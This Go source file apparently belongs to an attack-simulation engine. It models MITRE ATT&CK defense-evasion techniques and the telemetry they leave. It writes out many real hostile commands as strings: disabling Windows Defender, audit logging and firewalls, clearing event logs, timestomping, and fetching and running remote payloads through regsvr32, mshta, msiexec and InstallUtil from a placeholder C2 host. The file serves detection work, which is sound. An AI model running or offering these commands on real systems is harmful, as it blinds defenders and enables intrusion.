package technique

import (
	"time"

	"hemostat/sim"
	"hemostat/sim/world"
)

var quick = sim.LogNormal(time.Minute, 0.7)

var defenseEvasion = []*Technique{
	{
		ID: "T1562.001", Name: "Impair Defenses: Disable or Modify Tools", Tactic: "defense-evasion", Platforms: []string{"windows"},
		Needs: "an elevated foothold on Windows", Effect: "the endpoint agent on the host may be silent from then on",
		Telemetry: []string{"windows/sysmon 1 13", "windows/powershell 4104"}, Tools: []string{"Set-MpPreference", "registry", "service stop"}, Takes: sim.LogNormal(2*time.Minute, 0.7), Success: 0.8,
		ready: needElevated, run: impairDefences,
	},
	{
		ID: "T1562.002", Name: "Impair Defenses: Disable Windows Event Logging", Tactic: "defense-evasion", Effect: "the Security log misses logons",
		Takes: quick, Success: 0.95,
		script: &script{at: onElevated, variants: []variant{
			by("auditpol", cmd(world.Auditpol, `auditpol.exe /set /category:"Account Logon" /success:disable /failure:disable`), log("Security 4719", "CategoryId", "%%8280", "SubcategoryId", "%%14339", "AuditPolicyChanges", "%%8448, %%8450")),
			by("autologger", cmd(world.Reg, `reg add "HKLM\System\CurrentControlSet\Control\WMI\Autologger\EventLog-Security" /v Start /t REG_DWORD /d 0 /f`), registry(`HKLM\System\CurrentControlSet\Control\WMI\Autologger\EventLog-Security\Start`, "DWORD (0x00000000)")),
		}},
	},
	{
		ID: "T1562.004", Name: "Impair Defenses: Disable or Modify System Firewall", Tactic: "defense-evasion", Effect: "the host's own firewall lets everything in",
		Takes: quick, Success: 0.96,
		script: &script{at: anywhere, variants: []variant{
			by("one rule", either(cmd(world.Netsh, `netsh advfirewall firewall add rule name="Core Networking" dir=in action=allow program="C:\Users\Public\agent.exe" enable=yes`), sh(world.Iptables, "iptables -F"))),
			by("off", either(cmd(world.Netsh, `netsh advfirewall set allprofiles state off`), sh(world.UFW, "ufw disable"))),
		}},
	},
	{
		ID: "T1070.001", Name: "Indicator Removal: Clear Windows Event Logs", Tactic: "defense-evasion", Effect: "the logs of the host are empty",
		Takes: quick, Success: 0.98,
		script: &script{at: onElevated, variants: []variant{
			by("wevtutil", cmd(world.Wevtutil, "wevtutil.exe cl Security"), log("Security 1102"), cmd(world.Wevtutil, "wevtutil.exe cl System"), log("System 104", "Channel", "System", "BackupPath", "")),
			by("Clear-EventLog", powershell("Clear-EventLog -LogName Application,System"), log("System 104", "Channel", "System")),
		}},
	},
	{
		ID: "T1070.003", Name: "Indicator Removal: Clear Command History", Tactic: "defense-evasion", Effect: "what was typed is gone",
		Takes: quick, Success: 0.99,
		script: &script{at: anywhere, variants: []variant{
			by("delete the file", either(powershell(`Remove-Item (Get-PSReadlineOption).HistorySavePath`), sh(world.RM, "rm /root/.bash_history"))),
			by("switch off", either(powershell(`Set-PSReadlineOption -HistorySaveStyle SaveNothing`), sh(world.Ln, "ln -sf /dev/null /root/.bash_history"))),
		}},
	},
	{
		ID: "T1070.004", Name: "Indicator Removal: File Deletion", Tactic: "defense-evasion", Effect: "the attacker's files are gone",
		Takes: quick, Success: 0.99,
		script: &script{at: anywhere, variants: []variant{
			by("sdelete", either(move{"windows/sysmon 1", cmd(sdelete, `sdelete64.exe -accepteula -p 3 C:\Users\Public\agent.exe`).do}, sh(world.Shred, "shred -u -z /tmp/.agent"))),
			by("del after ping", either(cmd(world.Cmd, `cmd.exe /c ping 127.0.0.1 -n 5 > nul & del /f /q "C:\Users\Public\agent.exe"`), sh(world.RM, "rm -f /tmp/.agent"))),
		}},
	},
	{
		ID: "T1070.006", Name: "Indicator Removal: Timestomp", Tactic: "defense-evasion", Effect: "the attacker's files look old",
		Takes: quick, Success: 0.98,
		script: &script{at: anywhere, variants: []variant{
			by("set the time", either(powershell(`(Get-Item "C:\Users\Public\agent.exe").CreationTime = "01/01/2019 12:00:00"; (Get-Item "C:\Users\Public\agent.exe").LastWriteTime = "01/01/2019 12:00:00"`), sh(world.Touch, "touch -t 201901010000 /tmp/.agent"))),
			by("copy the time", either(powershell(`$o=Get-Item C:\Windows\System32\cmd.exe; $f=Get-Item C:\Users\Public\agent.exe; $f.LastAccessTime=$o.LastAccessTime`), sh(world.Touch, "touch -acmr /bin/sh /tmp/.agent"))),
		}},
	},
	{
		ID: "T1027", Name: "Obfuscated Files or Information", Tactic: "defense-evasion", Effect: "a script ran that nobody can read at a glance",
		Takes: quick, Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("base64 and gzip", cmd(world.PowerShell, `powershell.exe -noP -sta -w 1 -enc `+encoded(`$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAAA"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();`)), block(`$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAAA"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();`)),
			by("string pieces", powershell(`& ((gv '*mdr*').Name[3,11,2]-join'') ("{1}{0}" -f 'ost','Write-H')`)),
		}},
	},
	{
		ID: "T1140", Name: "Deobfuscate/Decode Files or Information", Tactic: "defense-evasion", Effect: "a packed tool is ready to run",
		Takes: quick, Success: 0.98,
		script: &script{at: anywhere, variants: []variant{
			by("decode", either(cmd(world.Certutil, `certutil.exe -decode C:\Users\Public\a.txt C:\Users\Public\agent.exe`), sh(world.Bash, `bash -c echo aGVsbG8K | base64 -d | bash`)), written(`C:\Users\Public\agent.exe`)),
			by("in memory", either(powershell(`[Reflection.Assembly]::Load([Convert]::FromBase64String((Get-Content C:\Users\Public\a.txt)))`), sh(world.Base64, "base64 -d /tmp/.a"))),
		}},
	},
	{
		ID: "T1036.003", Name: "Masquerading: Rename Legitimate Utilities", Tactic: "defense-evasion", Effect: "a system tool runs under another name",
		Takes: quick, Success: 0.98,
		script: &script{at: onWindows, variants: []variant{
			by("powershell as another", cmd(world.Cmd, `cmd.exe /c copy C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe C:\Users\Public\taskhostw.exe`), cmd(world.PowerShell.Renamed(`C:\Users\Public\taskhostw.exe`), `C:\Users\Public\taskhostw.exe -w hidden -c whoami`)),
			by("rundll32 as another", cmd(world.Rundll32.Renamed(`C:\Users\Public\audiodg.exe`), `C:\Users\Public\audiodg.exe C:\Users\Public\a.dll,Start`)),
		}},
	},
	{
		ID: "T1036.005", Name: "Masquerading: Match Legitimate Resource Name or Location", Tactic: "defense-evasion", Effect: "the attacker's program bears a trusted name",
		Takes: quick, Success: 0.98,
		script: &script{at: onWindows, variants: []variant{
			by("svchost elsewhere", cmd(world.Dropped(`C:\Users\Public\svchost.exe`, &plain), `C:\Users\Public\svchost.exe`)),
			by("system folder look-alike", cmd(world.Dropped(`C:\Windows \System32\winlogon.exe`, &plain), `"C:\Windows \System32\winlogon.exe"`)),
		}},
	},
	{
		ID: "T1112", Name: "Modify Registry", Tactic: "defense-evasion", Effect: "a setting of the system serves the attacker",
		Takes: quick, Success: 0.98,
		script: &script{at: onElevated, variants: []variant{
			by("wdigest", cmd(world.Reg, `reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f`), registry(`HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential`, "DWORD (0x00000001)")),
			by("remote desktop on", cmd(world.Reg, `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f`), registry(`HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections`, "DWORD (0x00000000)")),
		}},
	},
	{
		ID: "T1127.001", Name: "Trusted Developer Utilities Proxy Execution: MSBuild", Tactic: "defense-evasion", Effect: "code ran inside a signed build tool",
		Takes: quick, Success: 0.96,
		script: &script{at: onWindows, variants: []variant{
			by("project file", under(world.Winword, world.MSBuild, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\build.xml`), connect("", 443, "ssl", 2e3, 400e3)),
			by("own folder", cmd(world.MSBuild, `MSBuild.exe C:\Users\{user}\AppData\Local\Temp\b.csproj`), connect("", 443, "ssl", 2e3, 400e3)),
			by("among the sources", cmd(world.MSBuild, `MSBuild.exe C:\Users\{user}\source\repos\Tools\Tools.csproj /t:Build /v:m`), connect("", 443, "ssl", 2e3, 400e3)),
		}},
	},
	{
		ID: "T1202", Name: "Indirect Command Execution", Tactic: "defense-evasion", Effect: "a program ran below an unsuspected parent",
		Takes: quick, Success: 0.98,
		script: &script{at: onWindows, variants: []variant{
			by("forfiles", cmd(world.Forfiles, `forfiles.exe /p c:\windows\system32 /m notepad.exe /c "cmd /c C:\Users\Public\agent.exe"`), child(world.Cmd, `/c "C:\Users\Public\agent.exe"`)),
			by("pcalua", cmd(world.Pcalua, `pcalua.exe -a C:\Users\Public\agent.exe`)),
			by("conhost", cmd(world.Conhost, `conhost.exe --headless cmd.exe /c C:\Users\Public\agent.exe`), child(world.Cmd, `cmd.exe /c C:\Users\Public\agent.exe`)),
		}},
	},
	{
		ID: "T1218.003", Name: "System Binary Proxy Execution: CMSTP", Tactic: "defense-evasion", Effect: "code ran inside a signed program",
		Takes: quick, Success: 0.95,
		script: &script{at: onWindows, variants: []variant{
			by("inf file", cmd(world.Cmstp, `cmstp.exe /s /ns C:\Users\{user}\AppData\Local\Temp\x.inf`), child(world.Cmd, `cmd.exe /c C:\Users\Public\agent.exe`)),
			by("automatic", cmd(world.Cmstp, `cmstp.exe /au C:\ProgramData\vpn.inf`)),
		}},
	},
	{
		ID: "T1218.004", Name: "System Binary Proxy Execution: InstallUtil", Tactic: "defense-evasion", Effect: "code ran inside a signed program",
		Takes: quick, Success: 0.96,
		script: &script{at: onWindows, variants: []variant{
			by("no log", cmd(world.InstallUtil, `InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\a.dll`)),
			by("from the web", cmd(world.InstallUtil, `InstallUtil.exe https://{c2}/a.dll`), connect("", 443, "ssl", 2e3, 300e3)),
		}},
	},
	{
		ID: "T1218.005", Name: "System Binary Proxy Execution: Mshta", Tactic: "defense-evasion", Effect: "a script ran inside a signed program",
		Takes: quick, Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("inline script", cmd(world.Mshta, `mshta.exe vbscript:Close(Execute("GetObject(""script:https://{c2}/a.sct"")"))`), child(world.PowerShell, `powershell.exe -nop -w hidden -c IEX`), connect("", 443, "ssl", 2e3, 90e3)),
			by("from the web", cmd(world.Mshta, `mshta.exe http://{c2}/update.hta`), connect("", 80, "http", 2e3, 90e3)),
			by("kept page", cmd(world.Mshta, `mshta.exe "C:\Users\{user}\AppData\Local\Viewer\about.hta"`), connect("", 443, "ssl", 2e3, 90e3)),
		}},
	},
	{
		ID: "T1218.007", Name: "System Binary Proxy Execution: Msiexec", Tactic: "defense-evasion", Effect: "a package of the attacker is installed",
		Takes: quick, Success: 0.96,
		script: &script{at: onWindows, variants: []variant{
			by("quiet from the web", cmd(world.Msiexec, `msiexec.exe /q /i http://{c2}/setup.msi`), connect("", 80, "http", 2e3, 2e6)),
			by("library", cmd(world.Msiexec, `msiexec.exe /y C:\Users\Public\a.dll`)),
		}},
	},
	{
		ID: "T1218.010", Name: "System Binary Proxy Execution: Regsvr32", Tactic: "defense-evasion", Effect: "a script ran inside a signed program",
		Takes: quick, Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("squiblydoo", cmd(world.Regsvr32, `regsvr32.exe /s /u /i:http://{c2}/a.sct scrobj.dll`), connect("", 80, "http", 2e3, 20e3)),
			by("odd folder", cmd(world.Regsvr32, `regsvr32.exe /s C:\Users\{user}\AppData\Local\Temp\a.jpg`)),
			by("shell extension", cmd(world.Regsvr32, `regsvr32.exe /s "C:\Users\{user}\AppData\Local\Viewer\shellext.dll"`), load(`C:\Users\{user}\AppData\Local\Viewer\shellext.dll`)),
		}},
	},
	{
		ID: "T1218.011", Name: "System Binary Proxy Execution: Rundll32", Tactic: "defense-evasion", Effect: "a library of the attacker ran inside a signed program",
		Takes: quick, Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("javascript", cmd(world.Rundll32, `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://{c2}/a.sct")`)),
			by("ordinal", cmd(world.Rundll32, `rundll32.exe C:\Users\Public\a.dll,#1`)),
			by("named export", cmd(world.Rundll32, `rundll32.exe C:\ProgramData\Viewer\core.dll,DllRegisterServer`), load(`C:\ProgramData\Viewer\core.dll`)),
			by("program's folder", cmd(world.Rundll32, `rundll32.exe "C:\Users\{user}\AppData\Local\Viewer\viewcfg.dll",LoadSettings`), load(`C:\Users\{user}\AppData\Local\Viewer\viewcfg.dll`)),
		}},
	},
	{
		ID: "T1220", Name: "XSL Script Processing", Tactic: "defense-evasion", Effect: "a script ran inside a signed program",
		Takes: quick, Success: 0.96,
		script: &script{at: onWindows, variants: []variant{
			by("from the web", cmd(world.Wmic, `wmic.exe os get /format:"https://{c2}/a.xsl"`), connect("", 443, "ssl", 2e3, 20e3)),
			by("local file", cmd(world.Wmic, `wmic process list /FORMAT:C:\Users\Public\a.xsl`)),
		}},
	},
	{
		ID: "T1222.001", Name: "File and Directory Permissions Modification: Windows File and Directory Permissions Modification", Tactic: "defense-evasion", Effect: "everybody may write where only the system might",
		Takes: quick, Success: 0.97,
		script: &script{at: onElevated, variants: []variant{
			by("icacls", cmd(world.Icacls, `icacls.exe C:\Data /grant Everyone:F /T /C /Q`)),
			by("takeown", cmd(world.Takeown, `takeown.exe /f C:\Data /r /d y`)),
		}},
	},
	{
		ID: "T1222.002", Name: "File and Directory Permissions Modification: Linux and Mac File and Directory Permissions Modification", Tactic: "defense-evasion", Effect: "the attacker's files can be run, and not be removed",
		Takes: quick, Success: 0.99,
		script: &script{at: onLinux, variants: []variant{
			by("chattr", sh(world.Chattr, "chattr -i /etc/ld.so.preload"), sh(world.Chmod, "chmod 777 /tmp/.agent")),
			by("chmod", sh(world.Chmod, "chmod +x /tmp/.agent")),
		}},
	},
	{
		ID: "T1564.001", Name: "Hide Artifacts: Hidden Files and Directories", Tactic: "defense-evasion", Effect: "the attacker's files do not show",
		Takes: quick, Success: 0.99,
		script: &script{at: anywhere, variants: []variant{
			by("attributes", either(cmd(world.Attrib, `attrib.exe +s +h C:\Users\Public\agent.exe`), sh(world.CP, "cp /tmp/agent /var/tmp/.agent"))),
			by("dot folder", either(cmd(world.Attrib, `attrib.exe +h C:\ProgramData\Viewer`), sh(world.Bash, "bash -c mkdir /tmp/.X11-unix/.cache"))),
		}},
	},
	{
		ID: "T1564.003", Name: "Hide Artifacts: Hidden Window", Tactic: "defense-evasion", Effect: "a script ran without a window",
		Takes: quick, Success: 0.99,
		script: &script{at: onWindows, variants: []variant{
			by("hidden powershell", powershellArgs(`-WindowStyle Hidden -ExecutionPolicy Bypass -File C:\Users\Public\a.ps1`), block(`powershell.exe -WindowStyle Hidden -File C:\Users\Public\a.ps1`)),
			by("headless browser", cmd(world.Chrome, `chrome.exe --headless --disable-gpu --dump-dom https://{c2}/a`), connect("", 443, "ssl", 2e3, 90e3)),
		}},
	},
	{
		ID: "T1564.004", Name: "Hide Artifacts: NTFS File Attributes", Tactic: "defense-evasion", Effect: "a tool lies in an alternate data stream",
		Takes: quick, Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("type into a stream", cmd(world.Cmd, `cmd.exe /c type C:\Users\Public\a.exe > C:\Users\Public\readme.txt:a.exe`), stream(`C:\Users\Public\readme.txt:a.exe`)),
			by("Set-Content", powershell(`Set-Content -Path C:\Users\Public\readme.txt -Stream a -Value (Get-Content C:\Users\Public\a.ps1 -Raw)`), stream(`C:\Users\Public\readme.txt:a.ps1`)),
		}},
	},
}

var sdelete = named(world.Dropped(`C:\Users\Public\sdelete64.exe`, &plain), "sdelete.exe", "Secure file delete", "Sysinternals - www.sysinternals.com")

// powershellArgs runs PowerShell with these arguments, without a script block.
func powershellArgs(args string) move {
	return move{"windows/sysmon 1", func(a *Attempt, f *Foothold) world.Refusal {
		a.Process = a.start(f, world.PowerShell, "powershell.exe "+a.text(f, args))
		return world.Refusal{}
	}}
}

// written writes a file where the foothold is a Windows host.
func written(path string) move {
	return move{"windows/sysmon 11", func(a *Attempt, f *Foothold) world.Refusal {
		if !f.Host.Windows() {
			return world.Refusal{}
		}
		return file(path).do(a, f)
	}}
}

// stream writes an alternate data stream (Sysmon 15).
func stream(path string) move {
	return move{"windows/sysmon 15", func(a *Attempt, f *Foothold) world.Refusal {
		p := a.last(f)
		a.World.WindowsLog(a.Now, a.Actor, f.Host, f.Account, "Sysmon 15", "Image", p.Binary.Path, "TargetFilename", a.text(f, path), "Contents", "-", "Hash", p.Binary.Hashes)
		return world.Refusal{}
	}}
}

func impairDefences(a *Attempt) Progress {
	f := a.Where(true, true)
	if f == nil {
		return failure("%s", errNotElevated)
	}
	switch a.Tool {
	case "Set-MpPreference":
		line := "Set-MpPreference -DisableRealtimeMonitoring $true"
		a.start(f, world.PowerShell, `powershell.exe -c "`+line+`"`)
		a.World.RunScript(a.Now+time.Second, a.Actor, f.Host, line)
	case "registry":
		p := a.start(f, world.Reg, `reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`)
		a.World.SetRegistryValue(a.Now+time.Second, a.Actor, p, `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`, "DWORD (0x00000001)")
	default:
		a.start(f, world.Sc, "sc stop WinDefend")
	}
	if a.failed {
		return failure("tamper protection on %s held", f.Host.Name)
	}
	f.Host.Agent = false
	return success("the agent on %s is silent", f.Host.Name)
}
